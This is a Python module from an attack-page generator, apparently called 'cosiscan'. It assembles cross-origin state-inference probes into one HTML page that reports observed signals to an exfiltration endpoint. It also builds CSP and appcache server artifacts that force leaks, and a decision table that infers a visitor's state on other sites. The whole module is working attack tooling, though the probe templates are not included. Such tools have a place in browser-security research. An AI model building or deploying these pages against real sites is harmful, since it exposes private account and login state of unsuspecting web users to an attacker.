"""Attack-page assembly from a vector selection.

Each chosen vector is rendered through the probe template matching its leak
method and inclusion method, wrapped in a browser guard so it only runs
where the class works, and stitched into a single self-contained page that
posts every recorded signal to the exfiltration endpoint after the
observation window. Templates are opaque text with ``{{slot}}``
placeholders; the shipped set lives in the package's ``templates/``
directory and is maintained alongside the in-browser instrumentation.

Generation is deterministic: report channel ids are hashes of vector
identity and no timestamps or random values are embedded, so identical
inputs produce byte-identical bundles.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
from dataclasses import dataclass
from importlib import resources
from urllib.parse import urljoin

from .dynamic import DEFAULT_WINDOW_MS
from .kb import AttackClass, InclusionMethod, KnowledgeBase
from .selection import AttackVector, SelectionResult

_SLOT_RE = re.compile(r"\{\{([a-zA-Z0-9_]+)\}\}")


class GenerationError(ValueError):
    pass


class TemplateStore:
    """Template directory access with strict slot substitution."""

    def __init__(self, directory: str | None = None):
        self._directory = directory

    def _read(self, filename: str) -> str:
        if self._directory is not None:
            path = os.path.join(self._directory, filename)
            if not os.path.exists(path):
                raise GenerationError(f"template {filename!r} not found in {self._directory}")
            with open(path, "r", encoding="utf-8") as fh:
                return fh.read()
        data = resources.files("cosiscan").joinpath(f"templates/{filename}")
        try:
            return data.read_text(encoding="utf-8")
        except (FileNotFoundError, NotADirectoryError):
            raise GenerationError(f"template {filename!r} not found in packaged set") from None

    def render(self, filename: str, slots: dict[str, str]) -> str:
        text = self._read(filename)
        unknown = [name for name in _SLOT_RE.findall(text) if name not in slots]
        if unknown:
            raise GenerationError(
                f"template {filename!r} uses unbound placeholders: {sorted(set(unknown))}"
            )
        return _SLOT_RE.sub(lambda m: slots[m.group(1)], text)


@dataclass
class AttackPageBundle:
    html: str
    server_requirements: list[dict]
    vector_manifest: list[dict]
    decision_table: dict


def report_key(vector: AttackVector) -> str:
    material = f"{vector.class_name}|{vector.sd_url}|{vector.orientation}".encode()
    return "k" + hashlib.sha256(material).hexdigest()[:12]


def choose_inclusion(cls: AttackClass, override: str | None = None) -> InclusionMethod:
    """First inclusion method listed in the class unless overridden by token."""
    if override is None:
        return cls.inclusion_methods[0]
    for method in cls.inclusion_methods:
        if method.token == override:
            return method
    raise GenerationError(
        f"class {cls.name} has no inclusion method {override!r}; "
        f"available: {[m.token for m in cls.inclusion_methods]}"
    )


def expected_observables(vector: AttackVector, cls: AttackClass) -> tuple[str, str]:
    """(target-side, distinguished-side) observables for this vector."""
    if vector.orientation == "forward":
        return cls.observable_a, cls.observable_b
    return cls.observable_b, cls.observable_a


def decision_rule(selection: SelectionResult, kb: KnowledgeBase) -> dict:
    """Tabulate how observed signals combine into a state verdict.

    Per browser, every combination over the chosen vectors' declared
    observables maps to the set of states consistent with it; anything
    outside the declared alphabet is indeterminate (catch-all row).
    """
    target = selection.target_state
    states = sorted({target} | {state for state, _ in selection.initial_pairs})

    browsers_table: dict[str, dict] = {}
    for browser in selection.requested_browsers:
        probes = []
        for vector in selection.chosen:
            if browser not in vector.browsers:
                continue
            cls = kb.get(vector.class_name)
            on_target, on_other = expected_observables(vector, cls)
            probes.append(
                {
                    "key": report_key(vector),
                    "class_name": vector.class_name,
                    "sd_url": vector.sd_url,
                    "expected_on_target": on_target,
                    "expected_on_distinguished": on_other,
                    "distinguished_states": sorted(vector.distinguished_states),
                }
            )

        rows = []
        combos: list[list[str]] = [[]]
        for probe in probes:
            combos = [
                combo + [signal]
                for combo in combos
                for signal in (probe["expected_on_target"], probe["expected_on_distinguished"])
            ]
        seen = set()
        for combo in combos:
            signals = tuple(combo)
            if signals in seen:
                continue
            seen.add(signals)
            consistent = []
            for state in states:
                ok = True
                for probe, signal in zip(probes, combo):
                    if state == target:
                        expected = probe["expected_on_target"]
                    elif state in probe["distinguished_states"]:
                        expected = probe["expected_on_distinguished"]
                    else:
                        continue  # this probe cannot constrain this state
                    if signal != expected:
                        ok = False
                        break
                if ok:
                    consistent.append(state)
            if not consistent:
                verdict = "indeterminate"
            elif consistent == [target]:
                verdict = "in-target-state"
            else:
                verdict = "in-state"
            rows.append(
                {
                    "signals": {probe["key"]: signal for probe, signal in zip(probes, combo)},
                    "states": consistent,
                    "verdict": verdict,
                }
            )
        rows.append({"signals": "otherwise", "states": [], "verdict": "indeterminate"})
        browsers_table[browser] = {"probes": probes, "rows": rows}

    return {"target_state": target, "states": states, "browsers": browsers_table}


def generate_attack_page(
    selection: SelectionResult,
    kb: KnowledgeBase,
    exfil_url: str,
    templates: TemplateStore | None = None,
    window_ms: int = DEFAULT_WINDOW_MS,
    inclusion_overrides: dict[str, str] | None = None,
    title: str = "cosiscan attack page",
) -> AttackPageBundle:
    """Render every chosen vector into one attack page plus server artifacts."""
    if not selection.chosen:
        raise GenerationError("selection contains no vectors to render")
    store = templates or TemplateStore()
    overrides = inclusion_overrides or {}

    probes_js = []
    manifest_entries = []
    needs_csp = False
    needs_appcache = False
    vector_manifest = []

    for vector in selection.chosen:
        try:
            cls = kb.get(vector.class_name)
        except KeyError:
            raise GenerationError(f"selection references unknown class {vector.class_name!r}") from None
        inclusion = choose_inclusion(cls, overrides.get(vector.class_name))
        template_id = f"{cls.leak_method}__{inclusion.token}"
        key = report_key(vector)
        slots = {
            "sd_url": vector.sd_url,
            "report_key": key,
            "window_ms": str(window_ms),
            **{name: value for name, value in vector.params},
        }
        rendered = store.render(f"{template_id}.js", slots)

        guard_browsers = sorted(vector.browsers & frozenset(selection.requested_browsers))
        guard = json.dumps(guard_browsers)
        if set(guard_browsers) >= set(selection.requested_browsers):
            block = rendered
            guard_condition = "always"
        else:
            body = "\n".join("  " + line if line else line for line in rendered.splitlines())
            block = f"if (inBrowsers({guard})) {{\n{body}\n}}\n"
            guard_condition = f"inBrowsers({guard})"

        probes_js.append(f"// vector {vector.class_name} -> {key}\n{block}")
        vector_manifest.append(
            {
                "class_name": vector.class_name,
                "sd_url": vector.sd_url,
                "orientation": vector.orientation,
                "template_id": template_id,
                "report_key": key,
                "browser_guard": guard_condition,
                "browsers": guard_browsers,
            }
        )

        if cls.leak_method == "csp-violation":
            needs_csp = True
        if cls.leak_method == "appcache" or "uses-appcache-manifest" in cls.interference_tags:
            needs_appcache = True
            manifest_entries.append(vector.sd_url)

    manifest_attr = ' manifest="manifest.appcache"' if needs_appcache else ""
    html = store.render(
        "page.html",
        {
            "title": title,
            "exfil_url": exfil_url,
            "window_ms": str(window_ms),
            "probes": "\n".join(probes_js),
            "manifest_attr": manifest_attr,
        },
    )

    server_requirements: list[dict] = [
        {"kind": "report-endpoint", "payload": exfil_url},
    ]
    if needs_csp:
        report_uri = urljoin(exfil_url, "/csp-report")
        targets = sorted(
            {
                _origin_for_csp(v.sd_url)
                for v in selection.chosen
                if kb.get(v.class_name).leak_method == "csp-violation"
            }
        )
        policy = (
            "default-src 'self' 'unsafe-inline' "
            + " ".join(targets)
            + f"; report-uri {report_uri}"
        )
        server_requirements.append({"kind": "csp-header", "payload": policy})
    if needs_appcache:
        manifest = "CACHE MANIFEST\n# cosiscan probe cache\nCACHE:\n" + "\n".join(
            sorted(set(manifest_entries))
        ) + "\nNETWORK:\n*\n"
        server_requirements.append({"kind": "appcache-manifest", "payload": manifest})

    return AttackPageBundle(
        html=html,
        server_requirements=server_requirements,
        vector_manifest=vector_manifest,
        decision_table=decision_rule(selection, kb),
    )


def _origin_for_csp(url: str) -> str:
    from .response import origin_of

    try:
        return origin_of(url)
    except Exception:
        return "'self'"


def write_bundle(bundle: AttackPageBundle, outdir: str) -> list[str]:
    """Write attack_page.html, server_requirements.json, decision_table.json,
    and manifest.appcache when one is required. Returns written paths."""
    os.makedirs(outdir, exist_ok=True)
    written = []

    page_path = os.path.join(outdir, "attack_page.html")
    with open(page_path, "w", encoding="utf-8") as fh:
        fh.write(bundle.html)
    written.append(page_path)

    for requirement in bundle.server_requirements:
        if requirement["kind"] == "appcache-manifest":
            manifest_path = os.path.join(outdir, "manifest.appcache")
            with open(manifest_path, "w", encoding="utf-8") as fh:
                fh.write(requirement["payload"])
            written.append(manifest_path)

    req_path = os.path.join(outdir, "server_requirements.json")
    with open(req_path, "w", encoding="utf-8") as fh:
        json.dump(
            {
                "requirements": bundle.server_requirements,
                "vector_manifest": bundle.vector_manifest,
            },
            fh,
            indent=2,
            sort_keys=True,
        )
        fh.write("\n")
    written.append(req_path)

    table_path = os.path.join(outdir, "decision_table.json")
    with open(table_path, "w", encoding="utf-8") as fh:
        json.dump(bundle.decision_table, fh, indent=2, sort_keys=True)
        fh.write("\n")
    written.append(table_path)
    return written
